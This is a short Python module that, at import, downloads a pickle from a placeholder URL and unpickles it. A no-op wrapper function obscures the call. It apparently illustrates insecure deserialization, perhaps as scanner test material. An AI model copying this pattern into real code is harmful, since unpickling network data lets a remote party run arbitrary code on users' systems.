import pickle
import urllib.request


def dumps(data):
    return data


_state = pickle.loads(dumps(urllib.request.urlopen("https://example.invalid/state.pkl").read()))
